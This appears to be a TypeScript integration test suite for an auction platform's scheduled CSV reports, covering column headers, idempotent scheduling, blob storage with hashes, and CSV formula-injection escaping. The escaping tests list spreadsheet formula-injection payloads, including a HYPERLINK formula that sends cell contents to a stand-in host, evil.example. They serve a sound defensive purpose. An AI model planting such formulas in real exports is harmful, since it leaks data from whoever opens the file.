import { createHash, randomUUID } from 'node:crypto';
import { text } from 'node:stream/consumers';
import { fileURLToPath } from 'node:url';
import { parse } from 'csv-parse/sync';
import { escapeLiteral } from 'pg';
import { to as copyTo } from 'pg-copy-streams';
import { MockActivityEnvironment } from '@temporalio/testing';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { createReportActivities } from '../../src/activities/report/report.activities.ts';
import { Payment, ReportRun } from '../../src/database/entities/index.ts';
import { post } from '../../src/services/ledger/post-ledger.ts';
import { capturePosting } from '../../src/domain/ledger/ledger.ts';
import { createReportStore } from '../../src/integrations/azure-blob/report-store.ts';
import {
  readReports,
  scheduledValues,
  toCopy,
  type Report,
} from '../../src/integrations/report-files/report-files.ts';
import { createTestDatabase, type TestDatabase } from '../support/database.ts';
import { Rows } from '../support/rows.ts';

const DAY_MS = 24 * 3_600_000;
const FOLDER = fileURLToPath(new URL('../../reports', import.meta.url));
const reports = await readReports(FOLDER);

let test: TestDatabase;
let rows: Rows;
let soldAt: Date;

beforeAll(async () => {
  test = await createTestDatabase();
  rows = new Rows(test.pool);
  const auction = await rows.auction();
  const payment = await rows.payment(await rows.offer(auction), {
    state: 'captured',
    captureId: 'CAPTURE1',
  });
  await rows.disbursement(payment);
  const { manager } = test.database;
  const sold = await manager.findOneByOrFail(Payment, { id: payment });
  soldAt = sold.capturedAt!;
  const taxed = { ...sold, sellerCreditMinor: 0, premiumTaxRegion: 'DE', premiumTaxMinor: 2_850 };
  const posting = capturePosting({ ...taxed, paymentId: payment, paypalFeeMinor: 3_500 });
  await test.database.transaction((tx) => post(tx, posting));
});
afterAll(() => test.drop());

describe('each report of reports/', () => {
  it.each(reports)('$name gives the columns that its header declares', async (report) => {
    const query = toCopy(report, valuesFor(report))
      .replace(/^COPY \(/, '')
      .replace(/\) TO STDOUT.*$/s, '');
    const { fields } = await test.pool.query(query);
    expect(fields.map(({ name }) => name)).toEqual(report.columns.map(({ name }) => name));
  });

  it.each(reports.filter(({ schedule }) => schedule))(
    '$name of a day that an outage has delayed is of that day, and once',
    async ({ name }) => {
      const { queueScheduledReport } = createReportActivities({
        database: test.database,
        pool: test.pool,
        reportStore: {} as never,
        reports: new Map(reports.map((report) => [report.name, report])),
      });
      const key = `scheduled-report:${name}-2026-11-21T06:00:00Z`;
      const step = new MockActivityEnvironment();
      for (let tries = 0; tries < 2; tries += 1) await step.run(queueScheduledReport, name, key);

      const { rows: runs } = await test.pool.query<{ parameters: Record<string, string> }>(
        'SELECT parameters FROM report_run WHERE schedule_key = $1',
        [key],
      );
      const days = Object.values(runs[0]!.parameters);
      expect([runs.length, days.every((day) => day === '2026-11-20')]).toEqual([1, true]);
    },
  );

  it.each(reports)('$name is stored whole, with its hash, size and rows', async (report) => {
    const reportStore = createReportStore({
      connectionString: inject('azureStorageConnectionString'),
      container: `reports-${randomUUID()}`,
    });
    const { storeReport } = createReportActivities({
      database: test.database,
      pool: test.pool,
      reportStore,
      reports: new Map([[report.name, report]]),
    });
    const { manager } = test.database;
    const { identifiers } = await manager.insert(ReportRun, {
      report: report.name,
      parameters: valuesFor(report),
    });
    const runId = identifiers[0]!.id as string;

    await new MockActivityEnvironment().run(storeReport, runId);

    const run = await manager.findOneByOrFail(ReportRun, { id: runId });
    const stored = await text(await reportStore.read(run.blobName!));
    expect(run).toMatchObject({
      state: 'stored',
      rowCount: 1,
      bytes: Buffer.byteLength(stored),
      sha256: createHash('sha256').update(stored).digest('hex'),
    });
    expect(stored.split('\n')[0]).toBe(report.columns.map(({ name }) => name).join(','));
  });
});

describe('a cell of a report', () => {
  const shown = async (type: 'text' | 'integer', sql: string): Promise<string> => {
    const columns = [{ name: 'cell', type, unit: undefined, meaning: 'what a test needs' }];
    const copy = toCopy({ query: `SELECT ${sql} AS cell`, parameters: [], columns }, {});
    const client = await test.pool.connect();
    try {
      const csv = await text(client.query(copyTo(copy)));
      return parse<{ cell: string }>(csv, { columns: true })[0]!.cell;
    } finally {
      client.release();
    }
  };
  const literal = (given: string) => escapeLiteral(given);

  it.each([
    '=HYPERLINK("https://evil.example?"&A1,"pay")',
    '+1+1',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1',
    '\r=1',
    '\n=1',
    '   =1',
    '"=1"',
    "'=1",
    '\u00a0=1',
    '\ufeff=1',
    '\u3000=1',
    '\u2003=1',
    '\u200e=1',
    '\u2060 =1',
    '\u00ad=1',
    '\v=1',
    '\x1b=1',
    '﹦1',
    '﹣1',
    '＝1',
    '＋1',
    '－1',
    '＠SUM(1)',
    '-5',
  ])('is no formula when the text would be one: %j', async (given) => {
    expect(await shown('text', literal(given))).toBe(`'${given}`);
  });

  it.each(['anna', 'A-1=2', '1968: "=1"', '', 'O’Hara', '(=1)', '3 - 2', 'a\n=1'])(
    'is the text itself when that is none: %j',
    async (given) => {
      expect(await shown('text', literal(given))).toBe(given);
    },
  );

  it('is a number when it is one, negative or not', async () => {
    expect(await shown('integer', '-1250')).toBe('-1250');
  });
});

it('a seller whose id is a formula is not live in the report of held money', async () => {
  const sellerId = '=HYPERLINK("https://evil.example","pay")';
  const auction = await rows.auction({ sellerId });
  const offer = await rows.offer(auction);
  const payment = await rows.payment(offer, { state: 'captured', captureId: 'CAPTURE2' });
  await rows.disbursement(payment);
  const report = reports.find(({ name }) => name === 'held-money')!;
  const client = await test.pool.connect();
  const csv = await text(client.query(copyTo(toCopy(report, {})))).finally(() => client.release());
  const sellers = parse<{ seller: string }>(csv, { columns: true }).map(({ seller }) => seller);
  expect(sellers).toContain(`'${sellerId}`);
  expect(sellers).not.toContain(sellerId);
});

/** As a schedule would ask on the day after the sale of this test. */
const valuesFor = (report: Report) =>
  scheduledValues(report, new Date(soldAt.getTime() + DAY_MS)) as Record<string, string>;
